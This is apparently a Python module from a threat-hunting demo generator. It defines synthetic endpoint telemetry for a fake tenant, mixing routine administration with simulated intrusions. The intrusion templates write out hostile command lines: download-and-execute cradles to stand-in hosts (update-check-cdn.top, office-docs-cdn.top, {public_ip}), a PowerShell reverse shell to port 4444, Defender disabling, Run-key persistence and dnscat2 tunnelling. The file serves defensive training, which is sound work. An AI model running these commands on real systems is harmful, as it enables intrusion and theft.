"""What hunters look for in the background of every real tenant: dual-use administration
(local accounts, Defender exclusions, certutil downloads, packet captures, archive passwords),
risky habits (portable remote-access tools, saved runas credentials, Wi-Fi keys), people's
other apps (Telegram, Dropbox), and a few incidents on a schedule (`at`: hours before the end
of the period): a commodity loader on a workstation, a web shell on the web server, SQL
xp_cmdshell, a macro document, a penetration test. None of these is an attack story (no
scenario stage), but everything scheduled with `at` is left out with --no-attacks, the
false-positive tenant (World.incidents); the random background (`w`) stays.

Same spec as vocab/behaviours.py (B); images use vocab/images.py's row format."""
from hunt.store.demo.vocab.spec import B

S32 = r"C:\Windows\System32"
MS = "Microsoft Corporation"
WINP = "Microsoft® Windows® Operating System"
WV = "10.0.22621.2506"
CONHOST = ("conhost", 0.9)
PS_LOADS = [("img", "ps_clr", 1), ("img", "ps_sma", 1), ("img", "amsi", 1)]

IMAGES = [
    ("mobsync", "mobsync.exe", S32, MS, WINP, "Microsoft Sync Center", WV, "ms", 93_184),
    ("sharphound", "SharpHound.exe", r"{profile}\Downloads\tools", "", "", "", "", "", 1_046_528),
    ("crackmapexec", "crackmapexec.exe", r"{profile}\Downloads\tools", "", "", "", "", "", 23_511_040),
    ("dnscat2", "dnscat2.exe", r"{profile}\Downloads\tools", "", "", "", "", "", 372_736),
    ("anydesk_portable", "AnyDesk.exe", r"{profile}\Downloads", "philandro Software GmbH", "AnyDesk", "AnyDesk", "8.0.8.0", "anydesk", 5_246_272),
    ("telegram", "Telegram.exe", r"{profile}\AppData\Roaming\Telegram Desktop", "Telegram FZ-LLC", "Telegram Desktop", "Telegram Desktop", "4.14.9.0", "", 126_531_072),
    ("qbittorrent", "qbittorrent.exe", r"C:\Program Files\qBittorrent", "The qBittorrent project", "qBittorrent", "qBittorrent - A Bittorrent Client", "4.6.3.10", "", 31_457_280),
    ("dropbox", "Dropbox.exe", r"C:\Program Files (x86)\Dropbox\Client", "Dropbox, Inc.", "Dropbox", "Dropbox", "191.4.4995.0", "", 8_129_520),
    ("exch_shell", "powershell.exe", S32 + r"\WindowsPowerShell\v1.0", MS, WINP, "Windows PowerShell", WV, "ms", 455_680),
]

# loader on a workstation: script from Downloads → rundll32 DLL → mobsync injected → discovery burst
LOADER_RECON = [("q_whoami", 1.0), ("q_set", 1.0), ("q_arp", 1.0), ("q_ipconfig", 1.0), ("q_netview", 1.0),
                ("q_nslookup", 1.0), ("q_netshare", 1.0), ("q_route", 1.0), ("q_netstat", 1.0), ("q_localgroup", 1.0)]

BEHAVIOURS = [
    # ------------------------------------------------------------------ scheduled incidents
    B("loader_script", "wscript", "explorer",
      [(r'"C:\Windows\System32\WScript.exe" "{profile}\Downloads\Invoice_{n:1000-9999}.jse"', 1),
       (r'"C:\Windows\System32\WScript.exe" "{profile}\Downloads\Scan_{n:100-999}.jse"', 1)],
      at=[7, 52, 130, 250], on="ws", kids=[("loader_dll", 1.0)],
      ev=[("file", "loader_script_drop", 1), ("net", "loader_fetch", 1)]),
    B("loader_dll", "rundll32", None, r'"C:\Windows\System32\rundll32.exe" {profile}\AppData\Roaming\{hex:8}\{hex:6}.dll,DllRegisterServer',
      kids=[("loader_mobsync", 1.0), ("loader_ps_dl", 1.0), ("loader_ps_recon", 1.0), ("loader_defender", 1.0), ("loader_persist", 1.0)],
      ev=[("file", "loader_dll_drop", 1), ("net", "loader_c2", 3), ("net", "loader_dga", 14)]),
    B("loader_mobsync", "mobsync", None, "mobsync.exe", kids=LOADER_RECON, ev=[("net", "loader_c2", 4)]),
    B("q_whoami", "whoami", None, "whoami /all"),
    B("q_set", "cmd", None, "cmd /c set"),
    B("q_arp", "arp", None, "arp -a"),
    B("q_ipconfig", "ipconfig", None, "ipconfig /all"),
    B("q_netview", "net", None, "net view /all", kids=[("net1", 0.5)]),
    B("q_nslookup", "nslookup", None, "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.{DOMAIN}"),
    B("q_netshare", "net", None, "net share"),
    B("q_route", "route", None, "route print"),
    B("q_netstat", "netstat", None, "netstat -nao"),
    B("q_localgroup", "net", None, "net localgroup", kids=[("net1", 0.5)]),
    B("loader_ps_dl", "powershell", None, "powershell.exe -nop -w hidden -enc {b64ps:loader_download}",
      kids=[CONHOST], ev=PS_LOADS + [("net", "loader_fetch", 1)]),
    B("loader_ps_recon", "powershell", None, "powershell.exe -nop -w hidden -encodedcommand {b64ps:loader_recon}",
      kids=[CONHOST], ev=PS_LOADS + [("net", "ldap", 2)]),
    B("loader_defender", "powershell", None, "powershell.exe -ExecutionPolicy Bypass -Command \"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath $env:APPDATA; Add-MpPreference -ExclusionProcess 'rundll32.exe'\"",
      kids=[CONHOST], ev=PS_LOADS),
    B("loader_persist", "reg", None,
      r'reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {pick:OneDriveSync|WinUpdate|ChromeUpdater} /t REG_SZ /d "powershell.exe -w hidden -nop -enc {b64ps:loader_download}" /f',
      ev=[("reg", "run_key_loader", 1)]),

    # web shell on the web server: w3wp starts shells that run discovery
    B("webshell_cmd", "cmd", "w3wp",
      [(r'cmd.exe /c "cd /d C:\inetpub\wwwroot&whoami"', 2), (r'cmd.exe /c "cd /d C:\inetpub\wwwroot&ipconfig /all"', 1),
       (r'cmd.exe /c systeminfo', 1), (r'cmd.exe /c "certutil -urlcache -split -f http://{public_ip}/s.txt %temp%\s.txt"', 1)],
      at=[9, 33, 160], on="role:web", req="iis", kids=[("webshell_whoami", 1.0), ("webshell_ping", 0.5), CONHOST],
      ev=[("file", "webshell_aspx", 1)]),
    B("webshell_whoami", "whoami", None, "whoami"),
    B("webshell_ping", "ping", None, "ping -n 1 {pick:8.8.8.8|{dc}}"),
    B("webshell_ps", "powershell", "w3wp", r'powershell.exe -c "Get-ChildItem C:\inetpub -Recurse -Include web.config | Select-String connectionString"',
      at=[8.5, 159], on="role:web", req="iis", kids=[CONHOST], ev=PS_LOADS),

    # SQL Server command shell
    B("sql_xpcmd", "cmd", "sqlservr", [(r'"C:\Windows\system32\cmd.exe" /c whoami', 1), (r'"C:\Windows\system32\cmd.exe" /c "netstat -ano"', 1),
                                        (r'"C:\Windows\system32\cmd.exe" /c "certutil -urlcache -split -f http://{public_ip}/a.exe C:\Users\Public\a.exe"', 1)],
      at=[60, 61, 200], on="role:sql", kids=[("sql_xp_whoami", 1.0), CONHOST]),
    B("sql_xp_whoami", "whoami", None, "whoami /priv"),

    # a Java application server runs a shell (a probe of a known vulnerability)
    B("java_shell", "cmd", "tomcat", [(r'cmd.exe /c "whoami && hostname"', 1), (r"cmd.exe /c powershell -c iex(New-Object Net.WebClient).DownloadString('http://{public_ip}/l.ps1')", 1)],
      at=[75, 300], on="role:app", kids=[CONHOST]),

    # macro documents opened from mail
    B("macro_doc", "winword", "outlook",
      r'"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "{profile}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex:8}\{pick:Remittance|Statement|Order}_{n:1000-9999}.doc" /o ""',
      at=[45, 180], on="ws", kids=[("macro_cmd", 1.0), ("macro_wmic", 1.0), ("macro_wscript", 1.0)],
      ev=[("img", "office_vba", 1), ("dev", "asr_office_child_blocked", 1)]),
    B("macro_cmd", "cmd", None, [(r'cmd.exe /c start /min mshta http://{pick:45.9.148.{n:10-250}|office-docs-cdn.top}/p.hta', 1)],
      kids=[("macro_mshta", 1.0)]),
    B("macro_mshta", "mshta", None, "mshta.exe http://{pick:45.9.148.{n:10-250}|office-docs-cdn.top}/p.hta",
      kids=[("macro_mshta_ps", 1.0)], ev=[("net", "loader_fetch", 1)]),
    B("macro_mshta_ps", "powershell", None, "powershell.exe -nop -w hidden -e {b64ps:loader_download}", kids=[CONHOST], ev=PS_LOADS),
    B("macro_wmic", "wmic", None, r'wmic.exe process call create "rundll32.exe {profile}\AppData\Local\Temp\{hex:6}.dll,Start"'),
    B("macro_wscript", "wscript", None, r'"C:\Windows\System32\WScript.exe" "{profile}\AppData\Local\Temp\{hex:6}.jse"'),
    B("macro_xls", "excel", "outlook",
      r'"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "{profile}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex:8}\{pick:Invoice|Payment}_{n:1000-9999}.xls"',
      at=[95, 220], on="ws", kids=[("macro_regsvr32", 1.0)], ev=[("img", "office_vba", 1)]),
    B("macro_regsvr32", "regsvr32", None, [(r"regsvr32.exe -s ..\{pick:Drezd|Fotyrt|Gpeqa}.{pick:red|ocx|dll}", 1)]),

    # a penetration test from an IT workstation
    B("pentest_sharphound", "sharphound", "explorer", r"{profile}\Downloads\tools\SharpHound.exe -c All --CollectionMethod All --ZipFileName {hex:6}.zip",
      at=[118], on="admin", ev=[("net", "ldap", 6), ("net", "smb_server", 6)]),
    B("pentest_cme", "crackmapexec", "explorer", r"{profile}\Downloads\tools\crackmapexec.exe smb 10.{n:10-40}.100.0/24 -u {sam} -p Passw0rd! --shares",
      at=[117], on="admin", ev=[("net", "lan_scan", 20)]),
    B("pentest_powercat", "powershell", "explorer", r"powershell.exe -ep bypass -f {profile}\Downloads\tools\powercat.ps1", at=[116], on="admin",
      kids=[CONHOST], ev=PS_LOADS),
    B("pentest_revshell", "powershell", "explorer", "powershell.exe -nop -c \"{pick:$client = New-Object System.Net.Sockets.TCPClient('45.146.164.{n:10-250}',4444);$s=$client.GetStream()}\"",
      at=[115.5], on="admin", kids=[CONHOST], ev=PS_LOADS),
    B("pentest_revshell_enc", "powershell", "explorer", "powershell.exe -e {b64ps:revshell}", at=[115], on="admin", kids=[CONHOST], ev=PS_LOADS),
    B("pentest_dnscat", "dnscat2", "explorer", r"{profile}\Downloads\tools\dnscat2.exe --dns server={pick:10.10.100.10|{dc}},domain=tunnel.{pick:c2lab.net|dnsx.io}", at=[114], on="admin"),
    B("pentest_findstr", "findstr", "explorer", r"findstr /si password *.xml *.ini *.txt *.config", at=[113, 40], on="admin"),
    B("pentest_esentutl", "esentutl", "explorer", r"esentutl.exe /y /vss {profile}\AppData\Local\Microsoft\Windows\WebCache\WebCacheV01.dat /d C:\Users\Public\wc.dat",
      at=[112], on="admin"),
    B("pentest_av_query", "wmic", "explorer", r"WMIC.exe /Namespace:\\root\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List",
      at=[111, 30], on="admin"),

    # a fake "verify you are human" page has the user paste a command into Win+R
    B("clickfix_paste", "powershell", "explorer", 'powershell -w hidden -nop -c "iwr http://update-check-cdn.top/c.ps1 -UseBasicParsing | iex"',
      at=[31, 143], on="ws", kids=[CONHOST], ev=PS_LOADS + [("reg", "runmru_paste", 1), ("net", "loader_fetch", 1)]),
    # a USB stick with a worm on it
    B("usb_copy", "xcopy", "explorer", r'xcopy E:\Photos "{profile}\Pictures\USB" /s /e /y', at=[21, 87, 166, 270], on="ws",
      ev=[("dev", "pnp_usb_disk", 3), ("dev", "usb_mounted", 1), ("dev", "av_detection_usb", 1)]),

    # ------------------------------------------------------------------ administration on a schedule
    B("admin_local_account", "net", "explorer", [("net  user {pick:svc_scan|tempadmin|kiosk|labuser} {pick:Welcome2024!|Spring#2024|Tmp-Passw0rd} /add", 1)],
      at=[20, 98, 190, 290], on="admin", kids=[("net1", 0.5), ("admin_local_group_add", 1.0)], ev=[("dev", "user_created", 1)]),
    B("admin_local_group_add", "net", None, [('net  localgroup administrators {pick:svc_scan|tempadmin|kiosk|labuser} /add', 2), ('net localgroup "Remote Desktop Users" {pick:svc_scan|tempadmin|kiosk|labuser} /add', 1)],
      kids=[("net1", 0.5)], ev=[("dev", "user_added_local_group", 1)]),
    B("admin_group_add", "net", "explorer", [('net  group "{pick:VPN Users|Backup Operators|Server Operators}" {user2} /add /domain', 1)],
      at=[26, 140, 260], on="admin", kids=[("net1", 0.5)]),
    B("admin_nmap_scan", "nmap", "explorer", r'"C:\Program Files (x86)\Nmap\nmap.exe" -sS -p 22,80,135,139,443,445,1433,3389 10.{n:10-40}.100.0/24',
      at=[5, 29, 77, 170], on="admin", ev=[("net", "lan_scan", 40)]),
    B("admin_certutil_dl", "certutil", "explorer", r"certutil.exe -urlcache -split -f http://{fileserver}.{ad_domain}/deploy/{pick:agent.msi|LAPS.x64.msi|sysmon.zip} C:\Temp\{pick:agent.msi|LAPS.x64.msi|sysmon.zip}",
      at=[14, 120], on="admin"),
    B("admin_exch_export", "exch_shell", "svc_schedule", [(r'powershell.exe -NoExit -Command ". \'C:\Program Files\Microsoft\Exchange Server\V15\bin\RemoteExchange.ps1\'; Connect-ExchangeServer -auto; Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; New-MailboxExportRequest -Mailbox {user2} -FilePath \\{fileserver}\Legal$\{user2}.pst"', 1)],
      at=[70, 230], on="role:exch", acct="admin", integ="High", kids=[("admin_exch_cleanup", 1.0), CONHOST], ev=PS_LOADS),
    B("admin_exch_cleanup", "exch_shell", None, r'powershell.exe -Command "Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false"',
      kids=[CONHOST], ev=PS_LOADS),
    B("admin_wmic_node", "wmic", "explorer", [("wmic /node:{peer_ip} /user:{domain}\\adm-{sam} computersystem get username", 1),
                                              ("wmic /node:{peer_ip} process list brief", 1)], at=[16, 88, 199], on="admin"),
    B("admin_fw_add", "netsh", "explorer", 'netsh advfirewall firewall add rule name="{pick:Allow SQL 1433|Allow WinRM|Allow monitoring agent}" dir=in action=allow protocol=TCP localport={pick:1433|5985|9182}',
      at=[39, 160], on="admin"),
    B("user_torrent", "qbittorrent", "explorer", r'"C:\Program Files\qBittorrent\qbittorrent.exe" "{profile}\Downloads\{pick:ubuntu-22.04.4-desktop-amd64|debian-12.5.0-amd64-netinst}.iso.torrent"',
      at=[27, 75, 150], on="ws", ev=[("net", "p2p", 12)]),
    B("user_public_share", "net", "explorer", r"net  use Z: \\{pick:81.2.69.160|52.168.117.170|203.0.113.77}\share", at=[57, 190], on="ws",
      kids=[("net1", 0.5)], ev=[("net", "smb_public", 2)]),
    B("admin_pktmon", "pktmon", "explorer", [("PktMon.exe start --etw -p 0 -c 13", 1), ("PktMon.exe stop", 1), ("PktMon.exe etl2pcap PktMon.etl", 0.5)],
      at=[50, 148], on="admin"),
    B("admin_fw_delete", "netsh", "explorer", r'netsh advfirewall firewall delete rule name="{pick:Allow 8080|Temp RDP|Old SQL rule}"', at=[36, 210], on="admin"),
    B("admin_runas_savecred", "runas", "explorer", r"runas.exe /savecred /user:{domain}\adm-{sam} mmc.exe", at=[12, 100, 205], on="admin"),
    B("admin_wifi_key", "netsh", "explorer", 'netsh.exe wlan show profile name="{pick:Guest|Office-Guest|Home}" key=clear', at=[17, 92], on="ws"),
    B("user_anydesk", "anydesk_portable", "explorer", r'"{profile}\Downloads\AnyDesk.exe" ', at=[22, 66, 140, 240], on="ws",
      ev=[("net", "svc_anydesk", 4)]),
    B("admin_7z_password", "sevenzip", "explorer", '7z.exe a "{profile}\\Desktop\\{stem}.7z" "{profile}\\Documents\\Confidential\\{stem}" -p{hex:8} -mhe=on',
      at=[28, 122, 215], on="ws", ev=[("file", "archive_confidential", 2)]),
    B("admin_dev_exclusion", "powershell", "explorer", r'powershell.exe -Command Add-MpPreference -ExclusionPath "{profile}\source\repos"',
      at=[44, 201], on="has:dev", integ="High", kids=[CONHOST], ev=PS_LOADS),
    B("admin_cert_export", "mmc", "explorer", r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\certlm.msc" ', at=[58, 170], on="admin",
      ev=[("file", "pfx_export", 1)]),
    B("admin_webdl", "powershell", "explorer", r"powershell.exe -Command Invoke-WebRequest -Uri https://download.sysinternals.com/files/SysinternalsSuite.zip -OutFile C:\Temp\SysinternalsSuite.zip",
      at=[4, 64, 134], on="admin", kids=[CONHOST], ev=PS_LOADS + [("net", "web", 1)]),

    # ------------------------------------------------------------------ random background (weights)
    B("legacy_ps2", "powershell", "svc_schedule", r"powershell.exe -Version 2 -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\legacy_inventory.ps1",
      w=dict(srv=0.05), acct="system", kids=[CONHOST], ev=[("img", "ps_sma_v2", 1), ("img", "amsi", 1)]),
    B("ps_temp_script", "powershell", "svc_schedule", r'powershell.exe -ExecutionPolicy Bypass -File "%temp%\{pick:cleanup|inventory|printer_map}.ps1"',
      w=dict(ws=0.03, srv=0.03), acct="system", kids=[CONHOST], ev=PS_LOADS),
    B("msi_repair", "msiexec", "explorer", r"msiexec.exe /fa C:\Windows\Installer\{hex:7}.msi /qn", w=dict(ws=0.02)),
    B("chrome_native_host", "cmd", "chrome",
      r'C:\Windows\system32\cmd.exe /d /c "{profile}\AppData\Local\Google\Chrome\User Data\NativeMessagingHosts\{pick:com.adobe.acrobat|com.microsoft.browsercore}\host.bat" chrome-extension://{pick:efaidnbmnnnibpcajpcglclefindmkaj|ppnbnpeolgkicgegkbkbjmhlideopiji}/',
      w=dict(ws=0.15), req="chrome", kids=[CONHOST]),
    B("telegram", "telegram", "explorer", r'"{profile}\AppData\Roaming\Telegram Desktop\Telegram.exe" -autostart', w=dict(ws=0.04),
      ev=[("net", "svc_telegram", 3)]),
    B("dropbox", "dropbox", "explorer", r'"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe" /systemstartup', w=dict(ws=0.04),
      ev=[("net", "svc_dropbox", 3), ("file", "dropbox_sync", 2)]),
    B("l_base64", "l_bash", "l_sshd", [("bash -c \"echo {hex:24} | base64 --decode > /tmp/{hex:4}.conf\"", 1),
                                        ("python3 -c \"import base64;print(base64.b64decode('{hex:16}'))\"", 1)],
      w=dict(lnx=0.2), acct="admin"),
    B("l_usermod", "l_sudo", "l_sshd", "sudo usermod -aG sudo {pick:deploy|ansible|ci}", at=[80, 260], on="lnx", acct="admin"),
]

# ------------------------------------------------------------------ device event templates
NET = {
    "loader_fetch": dict(to="public", ports=[(80, 1)], url=False),
    "loader_c2": dict(to="public", ports=[(443, 5), (2222, 2), (995, 2), (8443, 1)]),
    "loader_dga": dict(to="dga", ports=[(443, 1)], url=True, action=[("ConnectionFailed", 2), ("ConnectionSuccess", 1)]),
    "svc_telegram": dict(to="svc:telegram", ports=[(443, 1)], url=True),
    "p2p": dict(to="svc:p2p", ports=[(6969, 3), (443, 2), (51413, 3), (80, 1)], url=True, action=[("ConnectionSuccess", 3), ("ConnectionFailed", 1)]),
    "smb_public": dict(to="public", ports=[(445, 1)], action=[("ConnectionSuccess", 2), ("ConnectionFailed", 1)]),
    "svc_dropbox": dict(to="svc:dropbox", ports=[(443, 1)], url=True),
}

FILE = {
    "loader_script_drop": dict(action="FileCreated", folder=r"{profile}\Downloads", name="{pick:Invoice_{n:1000-9999}.jse|Scan_{n:100-999}.jse}",
                               origin="https://{pick:docs-share-online.top|cdn-files-drop.xyz}/d/{hex:10}", referrer="https://{pick:docs-share-online.top|cdn-files-drop.xyz}/view.php?id={hex:8}",
                               size=(2_000, 60_000)),
    "loader_dll_drop": dict(action="FileCreated", folder=r"{profile}\AppData\Roaming\{hex:8}", name="{hex:6}.dll", size=(300_000, 900_000)),
    "webshell_aspx": dict(action="FileCreated", folder=r"C:\inetpub\wwwroot\aspnet_client\system_web", name="{pick:errorEE|help|discover}.aspx",
                          size=(900, 9_000)),
    "archive_confidential": dict(action="FileCreated", folder=r"{profile}\Documents\Confidential", name="{stem}.7z", size=(50_000, 9_000_000)),
    "dropbox_sync": dict(action=[("FileCreated", 1), ("FileModified", 2)], folder=r"{profile}\Dropbox\{pick:Personal|Photos|Shared}", name="{doc}",
                         size=(10_000, 5_000_000)),
    "printer_driver": dict(action="FileCreated", folder=r"C:\Windows\System32\spool\drivers\x64\3", name="{pick:hpcu255u.dll|KOAYNJ__.DLL|PrintConfig.dll|unidrv.dll|xeroxv5.gpd}",
                           size=(40_000, 2_000_000)),
    "pfx_export": dict(action="FileCreated", folder=r"{profile}\Documents\Certificates", name="{pick:wildcard_{tenant}|vpn-{host}|codesign}.pfx", size=(2_500, 7_000)),
}

IMG = {
    "ps_sma_v2": dict(dlls=[("System.Management.Automation.dll", r"C:\Windows\assembly\GAC_MSIL\System.Management.Automation\1.0.0.0__31bf3856ad364e35", 1)]),
}

REG = {
    "runmru_paste": dict(action="RegistryValueSet", key=r"HKEY_CURRENT_USER\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
                         value="{pick:a|b|c}", vtype="String",
                         data='powershell -w hidden -nop -c "iwr http://update-check-cdn.top/c.ps1 -UseBasicParsing | iex"\\1'),
    "run_key_loader": dict(action="RegistryValueSet", key=r"HKEY_CURRENT_USER\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                           value="{pick:OneDriveSync|WinUpdate|ChromeUpdater}", vtype="String",
                           data="powershell.exe -w hidden -nop -enc {b64ps:loader_download}"),
    "service_config": dict(action="RegistryValueSet", key=r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\{pick:edgeupdate|GoogleUpdaterService|ZoomCptService|WdNisSvc|BITS}",
                           value="{pick:Start|ImagePath|ObjectName}", vtype="{pick:Dword|ExpandString|String}", data="{pick:2|3|LocalSystem}"),
}

DEV = {
    "pnp_usb_disk": dict(action="PnpDeviceConnected", noinit=True,
                         af={"ClassName": "DiskDrive", "DeviceDescription": "{pick:SanDisk Ultra USB Device|Kingston DataTraveler 3.0 USB Device|Generic Flash Disk USB Device}",
                             "DeviceId": "USBSTOR\\DISK&VEN_{pick:SANDISK|KINGSTON|GENERIC}&PROD_FLASH_DISK&REV_1.00\\{hex:16}&0",
                             "VendorIds": "[\"USBSTOR\\\\DiskSanDisk_Ultra\"]", "ClassId": "{{4d36e967-e325-11ce-bfc1-08002be10318}}"}),
    "asr_office_child_blocked": dict(action="AsrOfficeChildProcessBlocked", file="{pick:cmd.exe|powershell.exe|wscript.exe|rundll32.exe}",
                                     folder=r"C:\Windows\System32\{pick:cmd.exe|powershell.exe|wscript.exe|rundll32.exe}",
                                     af={"IsAudit": False, "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"}),
    "av_detection_usb": dict(action="AntivirusDetection", account="user", file="{pick:autorun.inf|Setup.exe|Photos.scr|invoice.lnk}",
                             folder=r"{pick:E:|F:}\{pick:autorun.inf|Setup.exe|Photos.scr|invoice.lnk}",
                             af={"ThreatName": "{pick:Worm:Win32/Autorun!inf|Trojan:Win32/Wacatac.B!ml|Worm:Win32/Phorpiex.A|Trojan:Win32/LnkGen.A}",
                                 "WasRemediated": True, "WasExecutingWhileDetected": False, "Category": "Worm", "ActionsTaken": "Quarantine"}),
    "task_created_appdata": dict(action="ScheduledTaskCreated", account="user",
                                 af={"TaskName": "\\{pick:SlackUpdate|DiscordUpdate|ZoomUpdateUser|FigmaAgent}-{sid}",
                                     "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions Context=\"Author\"><Exec><Command>%localappdata%\\{pick:slack|Discord|Zoom\\bin|FigmaAgent}\\Update.exe</Command><Arguments>--update</Arguments></Exec></Actions></Task>"}),
}

# ambient producers: (template, session key, weights per class, requirement)
AMBIENT = {
    "file": [("printer_driver", "spoolsv", dict(ws=0.03, srv=0.02), ""), ("webshell_aspx", "w3wp", dict(srv=0.004), "role:web")],
    "reg": [("service_config", "services", dict(ws=0.3, srv=0.3, dc=0.2), "")],
    "dev": [("av_detection_usb", "explorer", dict(ws=0.01), ""), ("task_created_appdata", "explorer", dict(ws=0.05), "")],
}
